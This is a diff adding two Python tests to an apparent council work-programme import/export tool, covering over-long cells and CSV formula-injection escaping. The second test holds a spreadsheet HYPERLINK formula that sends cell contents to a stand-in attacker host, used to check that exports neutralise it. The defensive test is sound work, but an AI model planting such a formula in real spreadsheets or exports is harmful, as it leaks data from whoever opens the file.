@@ -704,3 +704,43 @@ def test_exports_and_the_printable_page(client, session, board, clerk, now):
         '<th class="govuk-table__header" scope="row">29th November 2018</th><td class="govuk-table__cell"></td>'
         in printable
     )
+
+
+def test_a_cell_longer_than_its_column_is_a_row_problem_not_a_failure(session, board, clerk, now):
+    long_title = "Youth services " * 30  # 450 characters
+    long_source = "Council " * 40
+    header = "Date\tTitle\tDetail\tCabinet Member/ Lead Officer\tSource"
+    rows = [
+        header,
+        "21st June 2018\tFostering\tRecruitment\t\t",
+        f"\t{long_title.strip()}\tDetail\t\t",
+        f"\tAdoption\tDetail\tKirston Nelson\t{long_source.strip()}",
+    ]
+    content = "\n".join(rows).encode()
+    programme = parse_rows(read_table(content, "programme.tsv"), 2018)
+    assert sorted((problem.row, problem.reason) for problem in programme.problems) == [
+        (3, f"its Title is {len(long_title.strip())} characters long; at most 300 fit: shorten it"),
+        (
+            4,
+            f"its Source is {len(long_source.strip())} characters long; at most 200 fit: shorten it",
+        ),
+    ]
+    skipped = run_import(session, clerk, board, content, skip_bad_rows=True)
+    assert [entry.title for entry in entries(session, board)] == ["Fostering"]
+    assert len(skipped.plan.problems) == 2
+
+
+def test_cells_a_spreadsheet_would_run_are_exported_as_text_and_read_back_as_typed(
+    session, make, board, clerk, now
+):
+    formula = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
+    run_import(session, clerk, board, tsv(f"21st June 2018\t{formula}\t+44 24 7683 3111\t"))
+    csv_bytes = to_csv(programme_table(session, board, 2018, reader=EVERYTHING))
+    assert b"'=HYPERLINK(" in csv_bytes
+    assert b"'+44 24 7683 3111" in csv_bytes
+    assert b",=HYPERLINK(" not in csv_bytes
+    assert b'"=HYPERLINK' not in csv_bytes
+    copy = make.committee("copy", name="Copy", usual_venue="Committee Room 3 - Council House")
+    run_import(session, make.clerk(copy), copy, csv_bytes, filename="export.csv")
+    copied = entries(session, copy)[0]
+    assert (copied.title, copied.detail) == (formula, "+44 24 7683 3111")
